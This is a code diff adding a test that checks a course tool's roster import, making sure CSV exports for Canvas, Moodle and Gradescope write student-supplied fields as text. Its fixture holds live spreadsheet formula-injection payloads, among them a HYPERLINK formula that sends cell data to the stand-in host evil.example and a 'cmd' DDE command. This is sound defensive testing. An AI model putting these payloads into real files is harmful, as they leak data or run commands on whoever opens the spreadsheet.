@@ -103,3 +103,29 @@ def test_a_format_needs_a_file_and_a_roster_needs_its_id_column(graded_course, t
     assert code == 2 and "has columns ['nickname'] that nbgrader keeps no place for" in out
     code, out = call_cli("course", "roster", str(tmp_path / "none.csv"), *common)
     assert code == 2 and "roster: cannot read" in out
+
+
+HOSTILE_ROSTER = """id,first_name,last_name,email,lms_user_id
+alice,"=HYPERLINK(""http://evil.example/?""&A1,""open"")","+1+cmd|' /C calc'!A0",@SUM(1+1),-2+3
+bob,Bob,"	=1+1",bob@example.edu,1002
+"""
+
+
+@pytest.mark.parametrize("lms", ["canvas", "moodle", "gradescope"])
+def test_roster_text_a_spreadsheet_would_run_is_written_as_text(tmp_path, monkeypatch, lms):
+    """Names, emails and LMS ids come from students: none reaches a CSV as a formula, and every
+    number (points, a negative late penalty) stays a number."""
+    from tinyflo.course.instructor import spreadsheet_text
+
+    course = tmp_path / "course"
+    common = ["--dir", str(course), "--modules", str(FIXTURE_MODULES)]
+    assert call_cli("course", "build", *common)[0] == 0
+    _gradebook(course, monkeypatch)
+    (tmp_path / "roster.csv").write_text(HOSTILE_ROSTER)
+    assert call_cli("course", "roster", str(tmp_path / "roster.csv"), *common)[0] == 0
+    rows = _report(course, common, lms)
+    cells = [cell for row in rows for cell in row.values()]
+    assert not [cell for cell in cells if cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t"))], cells
+    assert [cell for cell in cells if cell.startswith("'") and "1+1" in cell or "A1" in cell], cells  # kept, as text
+    assert [spreadsheet_text(t) for t in ("-2", "+3", "1.5e-3", "0", "-2+3", "-inf", " =1", "Liddell")] == [
+        "-2", "+3", "1.5e-3", "0", "'-2+3", "'-inf", "' =1", "Liddell"]
